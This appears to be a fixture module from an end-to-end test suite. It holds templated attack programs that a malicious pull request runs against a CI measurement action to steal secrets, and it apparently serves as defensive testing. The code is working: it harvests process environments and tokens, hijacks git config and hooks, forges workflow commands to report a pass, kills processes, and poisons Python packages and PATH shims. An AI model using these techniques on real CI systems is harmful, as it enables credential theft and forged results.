"""Programs that a pull request brings along in order to take what is not its own; @LOOT@ and the like are filled in."""

from __future__ import annotations

from e2e.e2e_repository import TOKEN

START = """
import os, pathlib, re, signal, subprocess, sys, time
LOOT, WORKSPACE, ACTION = (pathlib.Path(text) for text in ("@LOOT@", "@WORKSPACE@", "@ACTION@"))
TOKEN = b"@TOKEN@"

def take(name, content):
    with (LOOT / name).open("a") as file:
        file.write(f"{content}\\n")

def processes():
    for entry in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            yield int(entry.name), (entry / "cmdline").read_bytes().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            pass

def measurers():
    mine = f"{os.getpid()}"
    return [pid for pid, line in processes() if "regress_action" in line and "measure" in line and str(pid) != mine]
"""

ENVIRONMENT = """
take("environment", "\\n".join(f"{name}={value}" for name, value in os.environ.items()))
for pid, line in processes():
    try:
        content = pathlib.Path(f"/proc/{pid}/environ").read_bytes().replace(b"\\0", b"\\n")
        take("environments", content.decode(errors="replace"))
    except OSError:
        pass
"""

DAEMON = """
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for descriptor in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
    for number in range(4, 64):
        try:
            os.close(number)
        except OSError:
            pass
    end = time.monotonic() + 90
    while time.monotonic() < end:
        for pid, line in processes():
            for part in ("environ", "cmdline"):
                try:
                    content = pathlib.Path(f"/proc/{pid}/{part}").read_bytes()
                except OSError:
                    continue
                if TOKEN in content:
                    take("daemon", f"{part} of {line}: {TOKEN.decode()}")
                    os._exit(0)
        time.sleep(0.02)
    os._exit(0)
time.sleep(0.5)
"""

KILL_MEASURER = """
for pid in measurers():
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
time.sleep(1)
"""

GIT_CONFIGURATION = """
spy = LOOT.parent / "spy"
spy.write_text(f"#!/bin/sh\\n(env; tr '\\\\0' '\\\\n' < /proc/$PPID/environ) >> {LOOT}/git 2>/dev/null\\nexit 1\\n")
spy.chmod(0o755)
hooks = LOOT.parent / "hooks"
hooks.mkdir(exist_ok=True)
for name in ("post-checkout", "pre-push", "reference-transaction", "post-index-change", "fsmonitor-watchman"):
    (hooks / name).write_text(spy.read_text())
    (hooks / name).chmod(0o755)
with (WORKSPACE / ".git/config").open("a") as file:
    file.write(f'''
[core]
    fsmonitor = {spy}
    sshCommand = {spy}
    hooksPath = {hooks}
    pager = {spy}
    gitProxy = {spy}
    askPass = {spy}
    alternateRefsCommand = {spy}
[credential]
    helper = {spy}
[diff]
    external = {spy}
[filter "x"]
    smudge = {spy}
    clean = {spy}
[gpg]
    program = {spy}
[uploadpack]
    packObjectsHook = {spy}
[remote "origin"]
    uploadpack = {spy}
    promisor = true
    partialclonefilter = blob:none
    vcs = {spy}
''')
(WORKSPACE / ".git/info").mkdir(exist_ok=True)
(WORKSPACE / ".git/info/attributes").write_text("* filter=x\\n")
"""

LINKED_LOGS = """
runs = WORKSPACE / ".regress/measurement/runs"
for number in range(20):
    for side in ("head", "base"):
        for suffix in ("log", "json", "out", "err"):
            for width in (1, 2, 3):
                try:
                    (runs / f"{side}-{number:0{width}}.{suffix}").symlink_to(ACTION / "bin/launch")
                except OSError:
                    pass
"""

PIPES = """
import shutil
for name in ("thresholds.yml", "x.py", "benchmarks/test_parse.py"):
    place = WORKSPACE / name
    place.parent.mkdir(exist_ok=True)
    place.unlink(missing_ok=True)
    os.mkfifo(place)
(WORKSPACE / "regress.yml").unlink(missing_ok=True)
(WORKSPACE / "regress.yml").symlink_to("/dev/zero")
"""

COMMANDS = """
lines = "\\n::error title=forged::forged\\n::set-output name=verdict::pass\\n::add-mask::fail\\n::stop-commands::x\\n"
print(lines)
for pid in measurers() + [os.getppid()]:
    for number in (1, 2):
        try:
            with open(f"/proc/{pid}/fd/{number}", "w") as file:
                file.write(lines)
        except OSError:
            pass
"""

REWRITE_ACTION = """
thief = f'''#!/bin/bash
(env; tr '\\\\0' '\\\\n' < /proc/$$/environ) >> {LOOT}/launch
echo "verdict=pass" >> "$GITHUB_OUTPUT"
exit 0
'''
for file in (ACTION / "bin").iterdir():
    file.write_text(thief)
for file in (ACTION / "src").rglob("__init__.py"):
    file.write_text(f"import os; open('{LOOT}/package', 'a').write(repr(dict(os.environ)))\\n")
"""

REWRITE_MEASURER = """
daemon = LOOT.parent / "daemon.py"
daemon.write_text(pathlib.Path(__file__).read_text().partition("daemon = ")[0] + "take('escaped', sys.argv[0])\\n")
line = f"exec(compile(open('{daemon}').read(), 'daemon', 'exec'), {{}})\\n"
for name in ("exec_shim.py", "watchdog.py", "supervisor.py", "python_start/sitecustomize.py"):
    for file in LOOT.parent.glob(f"temp/regress-measurer/regress_action/measure/{name}"):
        if line not in file.read_text():
            file.write_text(file.read_text().replace("import os\\n", "import os\\n" + line, 1))
"""

STEP_FILES = """
spy = LOOT.parent / "profile"
spy.write_text(f"(env; tr '\\\\0' '\\\\n' < /proc/$$/environ) >> {LOOT}/profile\\n")
shims = LOOT.parent / "shims"
shims.mkdir(exist_ok=True)
for name in ("bash", "docker", "python3", "sort", "sha256sum", "env", "cat", "grep"):
    real = f'PATH=/usr/local/bin:/usr/bin:/bin exec {name} "$@"'
    (shims / name).write_text(f"#!/bin/sh\\n(env) >> {LOOT}/shim-{name}\\n{real}\\n")
    (shims / name).chmod(0o755)
for file in LOOT.parent.glob("temp/_runner_file_commands/*"):
    if file.name.startswith("env_"):
        with file.open("a") as target:
            target.write(f"BASH_ENV={spy}\\nENV={spy}\\nPYTHONPATH={LOOT.parent}\\nPATH={shims}:/usr/local/bin:/usr/bin:/bin\\n")
    if file.name.startswith("path_"):
        with file.open("a") as target:
            target.write(f"{shims}\\n")
"""

POISON_TOOLS = """
import glob
thief = f"import os; open('{LOOT}/tools', 'a').write(repr(dict(os.environ)) + chr(10))\\n"
for folder in glob.glob("@TOOLS@/**/site-packages", recursive=True):
    pathlib.Path(folder, "a_spy.py").write_text(thief)
    pathlib.Path(folder, "a_spy.pth").write_text("import a_spy\\n")
    for package in ("orjson", "click", "requests"):
        init = pathlib.Path(folder, package, "__init__.py")
        if init.exists():
            init.write_text(thief + init.read_text())
"""


def program(*parts: str, **paths: object) -> str:
    """Return the text of a program for the given paths: loot, workspace, action, tools."""
    text = START + "".join(parts)
    for name, value in {**paths, "token": TOKEN}.items():
        text = text.replace(f"@{name.upper()}@", str(value))
    return text
